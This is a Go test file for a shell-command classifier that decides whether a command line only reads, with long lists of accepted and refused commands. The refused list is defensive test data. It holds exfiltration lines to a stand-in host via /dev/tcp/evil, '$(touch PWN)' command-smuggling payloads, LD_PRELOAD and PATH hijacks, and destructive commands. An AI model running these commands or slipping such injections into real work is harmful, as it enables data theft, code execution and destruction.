package readcmd

import (
	"strings"
	"testing"
)

func TestReads(t *testing.T) {
	for _, line := range strings.Split(strings.TrimSpace(reading), "\n") {
		line = strings.ReplaceAll(line, "␤", "\n")
		if v := Line(line, Own); !v.Reads {
			t.Errorf("%q is held: %s", line, v.Reason)
		}
	}
}

func TestHolds(t *testing.T) {
	for _, line := range strings.Split(strings.TrimSpace(holding), "\n") {
		line = strings.ReplaceAll(line, "␤", "\n")
		if v := Line(line, Own); v.Reads {
			t.Errorf("%q passes", line)
		} else if v.Reason == "" {
			t.Errorf("%q is held without a reason", line)
		}
	}
}

// TestQueries checks that a line with database statements never counts as one that only
// reads, and that the verdict contains the statements which the caller must judge.
func TestQueries(t *testing.T) {
	for line, want := range map[string]string{
		"psql -c 'select 1'": "select 1", "psql -d a -tAc 'select 1'": "select 1", `psql "postgres://x/y" -c "select 1" --command='drop table t'`: "select 1;drop table t",
		"mysql -u root -e 'show tables' db | head": "show tables", "mariadb -p --execute 'select 1'": "select 1",
		"redis-cli -h x -p 1 --raw LRANGE a 0 -1": "LRANGE a 0 -1", "for f in a b; do redis-cli get $f; done": "", "ls && redis-cli del a": "del a",
		`psql -c '\! rm x'`: "", `psql -c 'select 1 \g out'`: "", `psql -c '\d a` + "`rm x`" + `'`: "", "psql -c \"select $x\"": "", "psql": "", "psql -f x": "", "psql -t": "",
		`mysql -e 'select 1 \! rm x'`: "", `mysql -e '\d x'`: "", "mysql --init-command=x -e 'select 1'": "", "mysql": "", "mysql -e": "", "mysql --execute=": "",
		"redis-cli": "", "redis-cli -x set a": "", "redis-cli --eval f": "", "redis-cli 'get a'": "", "psql -o f -c 'select 1'": "",
		"cd x && psql -c 'select 1' && git status": "",
	} {
		v := Line(line, Own)
		var texts []string
		for _, q := range v.Queries {
			texts = append(texts, q.Text)
		}
		if got := strings.Join(texts, ";"); v.Reads || v.Reason == "" || got != want {
			t.Errorf("%q: %v, %q, want %q", line, v.Reads, got, want)
		}
	}
}

// FuzzLine checks that Line does not panic and gives a reason for any text. If Line
// accepts a text, it must also accept the text with spaces in front, and the text on two
// lines. It must refuse the text if rm follows on the next line.
func FuzzLine(f *testing.F) {
	for _, line := range append(strings.Split(reading, "\n"), strings.Split(holding, "\n")...) {
		f.Add(strings.ReplaceAll(line, "␤", "\n"))
	}
	f.Fuzz(func(t *testing.T, line string) {
		v := Line(line, Own)
		if v.Reason == "" {
			t.Fatalf("%q: no reason", line)
		}
		if !v.Reads {
			return
		}
		for _, same := range []string{"  " + line + "\n", line + "\n" + line} {
			if w := Line(same, Own); !w.Reads && !strings.Contains(line, "time") && !strings.HasSuffix(line, "\\") {
				t.Errorf("%q passes, %q does not: %s", line, same, w.Reason)
			}
		}
		if v := Line(line+"\nrm x", Own); v.Reads {
			t.Errorf("%q passes with rm after it", line)
		}
	})
}

const reading = `diff <(ls a) <(ls b)
comm -12 <(sort a | uniq) <(sort -u b)
grep -f <(cut -f1 a) b
ls
psql -l
psql -c '\dt'
psql -d x -c '\d+ public.users'
LC_ALL=C sort a
LANG=C.UTF-8 ls
TZ=America/New_York date
NO_COLOR=1 git log
GIT_PAGER=cat git log -3
PAGER=cat LC_ALL=C git diff
COLUMNS=200 ps aux
env LC_ALL=C TZ=UTC date
bash -n a.sh
sh -n ./a.sh && echo fine
git ls-remote
git ls-remote --heads origin
git ls-remote --tags https://example.com/a.git
git remote show origin
git apply --check x.patch
git apply --stat --summary x.patch
git fsck
git diff-tree --no-commit-id --name-only -r HEAD
gzip -dc a.gz | head
gunzip -c a.gz
xz -dc a.xz
zstd -d -c a.zst
gh api repos/a/b --jq .name
cargo metadata --no-deps --format-version 1
cargo metadata --format-version=1 --no-deps --offline
cargo --version
gcloud logging read 'severity>=ERROR' --limit 5 --format json --project x
gcloud logging read x --limit=5 --freshness 1d
gh api repos/a/b/pulls --paginate
gh api -X GET search/issues -f q=x
gh api /user -q .login
npm -v
node --check a.js
php -l a.php
rustc -V
rustfmt --check a.rs
black --check .
black --diff -q a.py
ruff format --check .
terraform fmt -check -recursive
helm lint .
helm show values a/b
docker compose config --services
curl -sm 5 https://x
curl -sX GET https://x
curl -G -d q=1 https://x
curl -s --get --data-urlencode 'q=a b' https://x
curl -so - https://x
timedatectl status
aws dynamodb scan --table-name x
aws logs tail x
ls -la /tmp
ls; pwd
ls && pwd || true
cd src && ls -la
cat a.txt | grep -n x | head -5
grep x *.go
cat 'a b' 2>/dev/null
ls 2>&1 | wc -l
ls &>/dev/null
ls >/dev/null 2>&1
cat < in.txt
wc -l $HOME/x ${f} "${g:-none}" "a $h"
cat ~/x ~
ls \␤ -la
ls \␤-la \␤\␤ x
cat "a \␤b"
# List the files.␤ls
echo "$(date +%Y)" $(pwd)
( cd a; ls )
{ ls; pwd; }
if [ -f x ]; then cat x; elif test -d y; then ls y; else echo no; fi
for f in *.py; do wc -l "$f"; done
for f in a b␤do␤cat $f␤done
while read -r line; do echo "$line"; done < list
! grep -q x y
time ls
[ -f a ] && echo y
[[ -f a ]] && cat a
[[ -n $x ]] && echo y
[ "$a" = b ] || echo no
[ ! -d "$x" ] && echo no
[ 1 -lt 2 ]
echo $'a\tb' "a\"b" 'x$(y)' a\ b
echo $? $1 "$@"
grep -E "foo$" x
echo "100%" a:b,c @x +y a=b
find . -name '*.go' -not -path './x/*' -print0 | xargs -0 grep -l foo
find . -type f -exec grep -l x {} +
find src \( -name a -o -name b \) -exec wc -l {} \;
find . -newermt 2024-01-01 -maxdepth 2
ls | xargs -I{} wc -l {}
sed -n 1,20p a
sed 's/a/b/g' f
sed -E -e 's|a(b)|\1|' -e '/x/d' f
sed -n '/start/,/end/p;$p' f
sed '$!N;s/\n/ /;P;D' f
sed ':a;N;$!ba;s/\n/,/g' f
awk '{print $1}' f
awk -F: '{print $1}' /etc/passwd
awk -v n=3 'NR==n {printf "%s\n", $0}' f
awk '$3 > 100 && /foo|bar/ {s += $3/2} END {print s}' f
awk 'BEGIN {for (i = 1; i < 3; i++) print i}'
awk 'NR>1 && length($0) > 80' f
awk '{a[$1]++} END {for (k in a) print k, a[k]}' f
printf '%s\n' $x *
printf "%5d %s\n" 3 x 4 "$y"
timeout 5 ls
timeout -s KILL -k 2 10s git status
nice -n 5 du -sh .
env ls
env
command -v go
bash -lc 'ls | head'
bash -c "git status && git log -1"
sort -u -k2 a
sort ./*.txt
sort -- *.txt
uniq -c a
rg foo src
rg -n 'foo' --type go -g '*.go'
git log --oneline -5
git log --author='x' --since=1.week
git --no-pager show HEAD:a
git show HEAD^ HEAD~2 stash@{0}
git diff --stat main...HEAD -- core
git branch
git branch -a
git branch --list 'a*'
git branch --contains abc
git tag -l 'v*'
git remote -v
git config --get user.name
git config user.name
git config get user.name
git config list
git stash list
git stash show -p
git grep -n foo -- '*.go'
git rev-parse --abbrev-ref HEAD
git ls-files -- core
git blame -L 1,5 a.go
git reflog
git reflog show -n 5
git worktree list
git shortlog -sn HEAD
git -P log -1
git --version
npm ls --depth=0
npm --version
npm outdated
npm view react version
pip list --outdated
pip show x
go version
go env GOPATH
go doc fmt.Println
go mod graph
gofmt -l .
docker ps -a
docker logs --tail=5 x
docker compose ps
docker image ls
kubectl get pods -n x -o wide
kubectl -n x describe pod y
kubectl logs -f deploy/x --tail=50
kubectl config current-context
helm list -A
terraform output -json
terraform state list
gh pr list
gh pr view 1 --json title
gh api repos/x/y
gh run view 5 --log-failed
aws s3 ls
aws ec2 describe-instances --region eu-west-1
aws sts get-caller-identity
gcloud compute instances list --project=x
az vm list -o table
curl -s https://x
curl -sSL -H 'Accept: application/json' "https://x/y?z=1"
curl -s -o /dev/null -w '%{http_code}' http://localhost:8080/
curl -I https://x
jq . a.json
jq -r '.a | length' < f
yq . a.yaml
tar tf a.tar
for f in a b; do tar tf "./$f"; done
tar tf dir/*.tar
git for-each-ref --format '%(refname)' refs/{heads,tags}
git log --format=%h "--since=$D"
tar -tzvf a.tar.gz
unzip -l a.zip
zcat a.gz | head
zgrep x a.gz
xxd a | head
file a
less a
tree -L 2
column -t a
ps aux
df -h
du -sh *
free -m
top -b -n 1
systemctl status x
journalctl -u x -n 50 --no-pager
crontab -l
history
history 20
vmstat
ping -c1 x
dig +short x
nslookup x
host x
ip addr show
ip -br a
ss -tlnp
lsof -i :8080
date
date +%s
date -u +%FT%TZ
date -d yesterday +%F
uname -a
hostname
hostname -f
whoami
id
apt list --installed
dpkg -l
dpkg -L bash
brew list
rpm -qa
python --version
python3 -V
node -v
java -version
rustc --version
gcc --version
base64 -d a
od -c a
read -r x
ls {a,b}.go
ls [a-c]*.go x?
ls src/{a,b}
bc <<< "1+1"
cat <<'EOF'␤x␤EOF
cat <<"EOF"␤$(touch PWN) ' " \ $X␤EOF
cat <<'EOF' | grep a | head -1␤touch PWN␤EOF␤ls
grep -c x <<'A_1' 2>/dev/null && ls␤; touch PWN␤EOF␤A_1␤cat a
cat <<'E' |␤touch PWN␤E␤wc -l
cat << 'EOF'␤␤EOF
while read -r x; do echo "$x"; done <<'EOF'␤touch PWN␤EOF
(cat <<'EOF'␤)␤EOF␤)
if grep -q x <<'E'␤x␤E␤then ls; fi
/bin/ls /usr/bin/env
/usr/bin/git status
openssl x509 -in c.pem -noout -text
ulimit -a
sysctl -a
sysctl kernel.hostname
alias
sleep 1
diff -u a b | head
stat a
echo hi
kill -l
kill -0 12
man ls
man 5 crontab
set -o
export -p
npm run
go help test
docker-compose ps
traceroute x
bat -n a
ssh-add -l
7z l a.7z
find . -name x | xargs wc -l | sort -rn | head -5
git log main..HEAD --oneline
git log --pretty=format:'%h %s' -10
git log --graph --all --oneline -20
git diff --cached --name-only
git rev-list --count HEAD
git describe --tags --always
git ls-tree -r HEAD --name-only
git tag -l --sort=-version:refname | head -1
git branch -r --merged main
git config --list --show-origin
git remote get-url origin
git stash show -p stash@{0}
git status --porcelain
git cat-file -p HEAD:a
git for-each-ref --sort=-committerdate refs/heads/ --format='%(refname:short)'
git merge-base main HEAD
git check-ignore -v a
git log -S'foo' --oneline -- src/a.go
git log --since="2 weeks ago" --author=x --stat
kubectl get po -A
kubectl logs x -c y --tail 10
kubectl get events --sort-by=.metadata.creationTimestamp
kubectl top nodes
kubectl rollout status deploy/x
docker inspect x --format '{{.State}}'
docker stats --no-stream
gh issue list --state open --limit 10
gh auth status
aws iam list-users
aws s3api list-objects --bucket b
npm ls -g --depth 0
npm why x
npm view @a/b versions --json
npm pkg get name
pip show -f x
pip freeze | grep x
awk 'NR>=1&&NR<=5' f
awk '!seen[$0]++' f
awk '/start/{f=1} f; /end/{f=0}' f
awk 'length > 80' f
awk "{print \$1}" f
awk '{ if ($1 > 5) print $2 }' f
awk 'BEGIN{FS=","} {print $NF}' f
sed '/^$/d' f
sed 's/[[:space:]]*$//' f
sed -n '10,$p' f
sed -e 's/[^0-9]//g' f
sed 5q f
ps -ef | grep x | grep -v grep | awk '{print $2}'
stat -c %s a
du -h --max-depth=1 | sort -h
tail -n +5 a | head -c 100
date -Iseconds
env | sort`

const holding = `rm -rf x
nvidia-smi daemon
nvidia-smi mig
nvidia-smi -q daemon
LC_ALL=C
LC_ALL=C rm x
LC_ALL=/tmp/x ls
LC_ALL=$x ls
TZ=:/etc/x date
PAGER=less git log
PAGER='rm x' git log
PATH=/tmp ls
LC_ALL=C PATH=/tmp ls
LC_ALL=C [[ a ]]
LC_ALL=C if ls; then ls; fi
LC_ALL=C $x
LC_ALL=C FOO=1 ls
env LC_ALL=C rm x
env LC_ALL=C PATH=x ls
bash -n
bash -n -c 'rm x'
bash -n a.sh b
bash -nx a.sh
git ls-remote ext::x
git ls-remote ../x
git ls-remote x
git ls-remote --upload-pack=x origin
git ls-remote $x
git remote show x
git apply x.patch
git apply --check --apply x
git apply --stat --index x
git fsck --lost-found
gzip -d a.gz
gzip -ld a.gz
xz -t -d a.xz
gunzip a.gz
zstd -d -c -o b a
gh api repos/a/b -f x=1
gh api repos/a/b -X POST
gh api -X GET a -X DELETE
gh api repos/a/b --method=PUT
gh api a --jq .x --input f
gh api --jq . graphql -f query=x
cargo metadata
cargo metadata --format-version 1
cargo metadata --format-version --no-deps
cargo metadata --no-deps --manifest-path x
cargo metadata --no-deps --config build.rustc=x
cargo +x metadata --no-deps
cargo build
cargo --config x metadata --no-deps
gcloud logging write x y
gcloud logging read x --flags-file=y
gcloud logging delete x
gcloud logging sinks create x y
node -c a.js b
php -l a b -r c
rustc -v a.rs
rustfmt a.rs
black .
black -q .
ruff check .
ruff format .
terraform fmt
terraform fmt -check=false
helm lint . --post-renderer x
docker compose config -o x
wget -O - https://x
wget -q https://x
wget -qO x https://x
wget -qO- -O x https://x
wget -qO- -o x https://x
wget -q --spider -r https://x
wget -qO- --post-data=a https://x
curl -w -G -d x https://x
curl -A -G -d x https://x
curl -G -d @f https://x
curl -sd x https://x
curl -sX POST https://x
curl -so x https://x
curl -G -X POST -d x https://x
aws dynamodb delete-item --table-name x
mv a b
frob
ls; rm x
ls && rm x
ls | tee x
ls > x
ls >> x
ls >| x
ls 2> y
ls &> log
ls > /dev/stdout
ls > /dev/sda
cat x > /dev/tcp/evil/80
cat < /dev/tcp/evil/80
cat < $f
ls <> x
exec 3<>/dev/tcp/evil/80
ls > >(rm x)
diff <(rm a) <(ls b)
diff <(ls a) <(ls b
cat <(ls)x
cat x<(ls)
<(ls) a
bash <(echo ls)
. <(echo ls)
sed -f <(echo w x) y
cat <(sort -o x y)
cat <((1))
cat <(ls $(rm x))
tee <(ls)
cat =(ls)
cat =ls
ls $(rm x)
ls "$(rm x)"
ls $(ls; rm x)
ls ` + "`pwd`" + `
ls & rm x
ls &
ls␤rm x
ls *(e:'touch PWN':)
echo *(e:'touch PWN':)
ls ?(a)
ls !(a)
[[ 'a[$(touch PWN)]' -eq 0 ]] || ls
test -v 'a[$(touch PWN)]'
[ -v 'a[$(touch PWN)]' ]
[[ -v 'a[$(touch PWN)]' ]] || ls
[ "$x" -eq 0 ]
[ -n $x ]
[ a -o -v x ]
[ -R x ]
for x in 'a[$(touch PWN)]'; do echo $((x)); done
for x in a; do ((x)); ls; done
for x in '$(touch PWN)'; do echo ${x@P}; done
for x in a; do echo ${!x}; done
for x in a; do echo ${PATH:x}; done
for x in a; do echo ${x:$x:1}; done
for x in a; do echo ${BASH_VERSINFO[x]}; done
for x in a; do echo $[x]; done
for PATH in /tmp/evil; do ls; done
for path in /tmp/evil; do ls; done
for ((i=0;i<1;i++)); do ls; done
echo $((1+1))
echo ${x
echo "${x
echo ${x:-a
echo ${x:=y}
echo ${x:?y}
echo ${#x}
echo ${x//a/b}
echo ${x%.py}
echo $x[1]
echo "$x[1]"
echo $x:h
echo ${x}[1]
echo $-
echo $!
echo ${x:-$(rm y)}
A=1 ls
PATH=. ls
PATH=.
LD_PRELOAD=./x.so ls
GIT_EXTERNAL_DIFF=x git diff
a[0]=1 ls
export A=1
alias ls='rm x'; ls
ls() { rm x; }; ls
function ls { rm x; }; ls
$x
"$x" a
~/ls
./ls
/tmp/ls
r*
eval ls
exec ls
source x
. x
builtin kill 1
sudo ls
nohup ls
watch ls
trap 'rm x' EXIT; ls
shopt -s extglob
set -o x
unset x
case a in a) rm x;; esac
select x in a; do ls; done
coproc ls
repeat 3 ls
ls !$
ls !!
echo "a!b"
echo "a!"
echo ~root ~+
ls # rm x
# don't␤ls
# ls; rm x␤ls
cat <<EOF␤x␤EOF
cat <<'EOF'␤x
cat <<'EOF'
cat <<'E O'␤x␤E O
cat <<\EOF␤x␤EOF
cat <<-'EOF'␤x␤EOF
cat <<'EOF'x␤x␤EOF
cat <<'EOF'␤a!b␤EOF
cat <<'EOF'␤^a^b␤EOF
cat <<'EOF' > x␤a␤EOF
cat <<'EOF' 'a␤b'␤EOF
cat <<'A' <<'B'␤x␤A␤y␤B
cat <<'EOF' # x␤a␤EOF
cat <<'EOF'␤a␤EOF ␤ls
cat <<'EOF'␤a␤ EOF
cat <<'EOF'␤a␤EOF␤rm x
cat <<'EOF'␤a␤EOF; rm x
cat <<'EOF'; rm x␤a␤EOF
sh <<'EOF'␤ls␤EOF
bash <<'EOF'␤rm x␤EOF
python3 <<'EOF'␤1␤EOF
cat <<'EOF' | sh␤rm x␤EOF
xargs rm <<'EOF'␤x␤EOF
tee x <<'EOF'␤a␤EOF
echo "$(cat <<'EOF'␤x␤EOF␤)"
psql <<'EOF'␤select 1␤EOF
uniq a b
uniq a -c
uniq a <1-5>/dev/null
uniq a*
uniq $x
sort -o a b
sort -uo a b
sort -no file a
sort --output=a b
sort --outp a b
sort --compress-program=x a
sort -k 1 -oa b
sort $x
sort "$x"
sort *
sort *.txt
sort -k -- -ofoo
sort -T /tmp a
find . -delete
find . -exec rm {} +
find . -exec sh -c 'rm {}' \;
find . -ok rm {} \;
find . -fprint x
find . -fls x
find . -fprintf x y
find $x
find "$x" -name y
find *
find . -name $x
find . -files0-from x
find . -execdir git log \;
find a b -exec sort {} \;
xargs rm
xargs < l rm
ls | xargs sort
ls | xargs -I{} sh -c 'cat {}'
ls | xargs -I% % a
ls | xargs git log
sed -i s/a/b/ f
sed s/a/b/ f -i
sed -n 1p -i f
sed 's/a/b/w out' f
sed -n '1e rm x' f
sed 's/a/b/e' f
sed 's/a/b/ge' f
sed 'w out' f
sed '1w out' f
sed 'e' f
sed '/x/r f2' f
sed -f x f
sed -n 1p "$x"
sed "$x" f
sed --in-place s/a/b/ f
sed --expr=w␤ f
sed 's/[/]/w x;s/]/b/' f
sed 'a\␤x␤w out' f
awk 'BEGIN{system("rm x")}'
awk '{print > "x"}' f
awk '{print $1 >> "x"}' f
awk '{print | "sh"}' f
awk '{"rm x" | getline}' f
awk '{printf "x" > "/tmp/y"}' f
awk '{print $1,␤$2 > "x"}' f
awk -f x f
awk -i inplace x f
awk "$x" f
awk '@load "x"' f
awk 'a / system("x") / b' f
awk 'function f() {print}' f
awk 'if (1) /"/; {print > "x"} /"/' f
awk '/[]/]/ {x = "/"; print > "y"; z = "/"}' f
gawk -o x '{print}' f
printf -v x y
printf '%d' 'a[$(touch PWN)]'
printf '%n' x
printf "%s %d\n" a b
printf "%s %d\n" $x
printf "%*d" a 1
git for-each-ref --format "%(signature)"
printf "$x"
read x[0]
read PATH
read -p x y
test a -a b
timeout 5 rm x
timeout $x ls
command : a
env type x
env rm x
env A=1 ls
env -S 'rm x'
env -i ls
nice rm x
bash -c 'rm x'
bash -c "$x"
bash x
bash -ic ls
bash -c 'cd x && git status'
sh x
cd x && git status
(cd x; git log)
git -C x status
git --git-dir=x status
git --work-tree=x status
git -c core.pager=x log
git -c x=y status
git --exec-path=x log
git -p log
git
git log --output=x
git log --outp=x
git log -- --x | tee y
git diff --ext-diff
git show --textconv x
git grep -O x
git grep --open-files-in-pager=x y
git log --format=%G? x
git log $x
git log "$x"
git show *
git log --author -- --output=x
git shortlog -n --output=x
git push
git stash
git stash pop
git branch new
git branch -D x
git branch -v new
git branch -l new
git branch --sort x
git tag v1
git tag -ld v1
git tag -v v1
git tag -n v1
git remote add x y
git remote update
git config user.name x
git config get.x y
git config set a b
git config get a b
git config user.{a,-o}name
git config user.nam*
git log --format=%{H,G?}
git log --format="$X"
git for-each-ref --sort=signature
git for-each-ref --sort={refname,signature}
git for-each-ref --format %{x,G?}
for f in evil:x; do tar tf "$f"; done
tar --file={a,b}
gh api g*
gh api -ix
kubectl top po -Ax
git config --unset user.name
git config -e
git config --add x y
git reflog expire
git reflog delete x
git bisect run x
git bundle create x
git archive -o x HEAD
git apply x
git commit -m x
git fetch
git ls-remote ext::sh
git symbolic-ref HEAD refs/heads/x
git worktree add x
git notes add
git cat-file --textconv x
npm test
npm install
npm run x
npm audit fix
npm config set x y
npx tsc
yarn list
pip install x
pip list --index-url x
python -m pip list
python x.py
python -c x
python --version x
go run .
go build
go list ./...
go list -m -json all
go list -f '{{.Dir}}' ./...
go vet ./...
cd x && go vet ./...
go list -toolexec x ./...
go list -export ./...
go list -mod=mod ./...
go env -w X=y
go vet -vettool=x
go test ./...
gofmt -w .
cargo build
cargo tree
docker run x
docker exec x ls
docker ps -a; docker rm x
docker -H x ps
docker compose up
docker compose -f x
kubectl delete pod x
kubectl apply -f x
kubectl exec x -- ls
kubectl get delete --kubeconfig x
kubectl --kubeconfig x get pods
kubectl cluster-info dump --output-directory=x
helm install x
helm template x
terraform apply
terraform show
gh pr merge 1
gh pr view 1 --web
gh api -X DELETE x
gh api x -f a=b
gh api graphql
aws s3 rm x
aws s3 cp a b
aws s3api get-object --bucket b --key k out
aws ec2 terminate-instances
aws ec2 describe-instances --endpoint-url http://x
aws lambda invoke out
aws ec2 describe-instances $x
gcloud compute ssh list
gcloud compute instances delete list
az vm delete show
curl -X POST http://x
curl -d x http://y
curl -o /etc/x http://x
curl -O http://x
curl -so x http://y
curl -T x http://y
curl -K x
curl --output x http://y
curl -w '%output{x}' http://y
curl -H 'X-HTTP-Method-Override: DELETE' http://x
curl gopher://x
curl $x
curl -c jar http://x
curl ftp.example.com
wget http://x
wget -qO- https://x
tar xf x
tar cf x y
tar tf evil:x
tar tf x --to-command=y
tar --list --file=evil:x
tar -tfevil:x
curl -H $'Accept: x\nX-HTTP-Method-Override: DELETE' http://x
curl -A $'x\nY: z' http://x
zgrep x $'a\nb'
cd x && gh pr list
cd x && go list -json ./...
npm view git+ssh://x/y
npm view x/y
npm view "$x"
dotnet --version
brew outdated
tar -tf x -I y
tar tf $x
unzip a.zip
gzip a
zstd -d a
tree -o x
tree -R
tree -R -H . -L 1
file -C -m x
file --compile
file *
file -z x
rg --pre x y
rg --hostname-bin=x y
rg -z x
rg foo $x
fd -x rm
ag --pager x y
less -o x a
less +!ls a
date -s 1
date 01010101
date $x
hostname evil
hostname $x
xxd a b
xxd -i a --
xxd -- a
xxd -r a b
xxd -bc 8 out
base64 a b
base64 -o x a
shuf -o x a
iconv -o x a
jobs -x rm
mount a b
ping x
ping -f x
ip link set x down
ip addr add 1 dev x
ip netns exec x ls
ss -K
dmesg -C
sysctl -w a=b
sysctl a=b
iptables -F
ulimit -n 5
umask 0
history -c
history -w x
crontab -r
crontab x
systemctl stop x
systemctl
journalctl --vacuum-size=1
service x status
apt install x
dpkg -i x
rpm -q --eval x
rpm -e x
brew install x
tee x
dd if=a of=b
mkdir x
touch x
ln -s a b
link a b
vim x
ed x
ssh x ls
nc x 80
perl -e x
node -e x
ruby -e x
make -n
terraform state rm x
ls 'open
ls "open
ls \
echo }
ls {a
''
ls | ''
time
time time ls
time ls; time ls
time while read -r x; do time ls; done
time (ls)
ls $\␤(rm x)
ls "$\␤(rm x)"
ls "a$\␤{X@P}"
ls $x\␤[1]
ls *\␤(e:x:)
ls <\␤<x
ls ;\␤; pwd
l\␤s
\␤ls
cat \␤=ls
! time ls
ls ||| pwd
ls ;; pwd
if ls; then pwd
for f in a; do ls
( ls
ls )
{ ls
done
ls␤)
tr	uncate -s0 x
pr	intf -v x y
kill 1
kill -9 1
kill -0 $x
man ./x.1
man -P sh ls
man -H ls
set -e
export -n PATH
trap 'rm x' EXIT
npm run x
fdisk /dev/sda
ssh-keygen -f x
uname -S x
arch -x86_64 rm
noglob rm x
- rm x
env - rm x
stdbuf -oL rm x
ls` + "\u202e" + `x
[ x -a y ]
echo $+x ${(e)x} $~x $=x
ls a#b *#-o | sort a#-o`
